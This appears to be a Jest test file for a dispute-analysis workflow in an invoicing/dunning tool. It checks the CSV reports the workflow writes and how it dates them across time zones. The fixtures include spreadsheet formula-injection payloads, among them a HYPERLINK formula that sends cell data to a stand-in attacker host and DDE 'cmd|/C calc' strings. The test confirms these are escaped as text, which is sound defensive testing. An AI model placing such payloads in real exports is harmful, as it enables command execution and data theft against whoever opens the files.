import { readFileSync, rmSync } from 'node:fs';
import path from 'node:path';
import { openDispute, resolveDispute, todayIn } from '../../core';
import { addCustomer, addInvoice } from '../helpers/dunning';
import { fakeDateAt, todayAt, useRealDate } from '../helpers/clock';
import { loadWorkflow, PACKAGE_ROOT, runWorkflow } from '../helpers/engine';
import { credentialsFor, dunningTestLedger, expectFiles, testFolder } from './dunning-helpers';

describe('workflow: weekly dispute analysis', () => {
	const t = dunningTestLedger();
	const folder = testFolder('reports');
	const today = todayIn('Europe/Paris');

	beforeAll(async () => {
		const c = await addCustomer(t.ledger, { externalId: 'WA-1', name: 'Groupe Alizé' });
		for (const n of ['W-1', 'W-2', 'W-3'])
			await addInvoice(t.ledger, { customerId: c, number: n, dueDate: today, amount: 100000n });
		const a = await openDispute(t.ledger, {
			invoices: ['W-1'],
			category: 'commercial',
			evidence: 'prix différent du devis',
		});
		await openDispute(t.ledger, { invoices: ['W-2'], category: 'logistics' });
		const b = await openDispute(t.ledger, {
			invoices: ['W-3'],
			category: 'commercial',
			evidence: 'remise non appliquée',
		});
		await resolveDispute(t.ledger, {
			disputeId: a.disputeId,
			resolution: 'credit_note',
			rootCause: 'Price list not updated',
		});
		await resolveDispute(t.ledger, {
			disputeId: b.disputeId,
			resolution: 'credit_note',
			rootCause: 'price list not updated',
		});
		// A customer whose name and a root cause typed as spreadsheet formulas: saved as text, never run.
		const f = await addCustomer(t.ledger, {
			externalId: '=HYPERLINK("http://evil.example/?"&A1,"Ouvrir")',
			name: '@SUM(1+1)*cmd|/C calc!A0',
			emails: ['compta@formula.example'],
		});
		await addInvoice(t.ledger, { customerId: f, number: 'W-4', dueDate: today, amount: 50000n });
		const d = await openDispute(t.ledger, {
			invoices: ['W-4'],
			category: 'technical',
			evidence: "=cmd|' /C calc'!A0",
		});
		await resolveDispute(t.ledger, {
			disputeId: d.disputeId,
			resolution: 'credit_note',
			rootCause: "+1+cmd|' /C calc'!A0",
		});
		rmSync(folder, { recursive: true, force: true });
	});

	/** Runs the workflow with the clock at `instant`; the file names carry the date of the workflow's zone. */
	async function runAt(instant: Date, zone?: string): Promise<string> {
		fakeDateAt(instant);
		try {
			const workflow = loadWorkflow(
				path.join(PACKAGE_ROOT, 'workflows', 'disputes-weekly-analysis.json'),
			);
			if (zone) workflow.settings = { ...workflow.settings, timezone: zone };
			const day = todayIn(zone ?? 'Europe/Paris');
			rmSync(folder, { recursive: true, force: true });
			expectFiles(folder, [`litiges-categories-${day}.csv`, `litiges-causes-${day}.csv`]);
			const result = await runWorkflow(workflow, { credentials: credentialsFor(t.ledger) });
			expect(result.error).toBeUndefined();
			expect(result.json('Disputes by category')).toEqual([
				expect.objectContaining({
					category: 'commercial',
					label: 'Commercial',
					disputes: 2,
					open: 0,
					resolved: 2,
					amounts: '2000.00 EUR',
				}),
				expect.objectContaining({
					category: 'logistics',
					label: 'Logistique',
					disputes: 1,
					open: 1,
					resolved: 0,
				}),
				expect.objectContaining({
					category: 'technical',
					label: 'Technique',
					disputes: 1,
					open: 0,
					resolved: 1,
					amounts: '500.00 EUR',
				}),
			]);
			expect(result.json('Top root causes')).toEqual([
				expect.objectContaining({
					rootCause: 'Price list not updated',
					disputes: 2,
					share: 0.667,
					categories: 'Commercial',
				}),
				expect.objectContaining({
					rootCause: "'+1+cmd|' /C calc'!A0",
					disputes: 1,
					categories: 'Technique',
					examples: expect.stringMatching(/^'=HYPERLINK\(/),
				}),
			]);
			return day;
		} finally {
			useRealDate();
		}
	}

	test.each(['00:30', '23:30'])(
		'at %s Paris time, saves the analysis by category and the top root causes as CSV files named with the Paris date',
		async (hhmm) => {
			const day = await runAt(todayAt(hhmm, 'Europe/Paris'));
			const causes = readFileSync(path.join(folder, `litiges-causes-${day}.csv`), 'utf8');
			expect(causes).toContain('Price list not updated');
			expect(causes).toContain('WA-1');
			expect(
				readFileSync(path.join(folder, `litiges-categories-${day}.csv`), 'utf8').split('\n')[0],
			).toContain('category;disputes;open');
			// No cell of either file starts as a formula: the customer's code, the root cause and the evidence are text.
			for (const file of [`litiges-causes-${day}.csv`, `litiges-categories-${day}.csv`]) {
				const cells = readFileSync(path.join(folder, file), 'utf8')
					.split(/\r?\n/)
					.flatMap((line) => line.split(';'))
					.map((cell) => cell.replace(/^"/, ''));
				expect({
					file,
					formulas: cells.filter((cell) => /^[=+@\-]/.test(cell) && !/^-?\d/.test(cell)),
				}).toEqual({ file, formulas: [] });
			}
			expect(causes).toContain("'+1+cmd|");
			expect(causes).toContain("'=HYPERLINK(");
		},
		60_000,
	);

	test("with the workflow in another zone, its date is that zone's (Auckland is already tomorrow at 23:30 in Paris)", async () => {
		const instant = todayAt('23:30', 'Europe/Paris');
		const day = await runAt(instant, 'Pacific/Auckland');
		expect(day).not.toBe(todayIn('Europe/Paris', instant));
		expect(readFileSync(path.join(folder, `litiges-causes-${day}.csv`), 'utf8')).toContain(
			'Price list not updated',
		);
	}, 60_000);
});
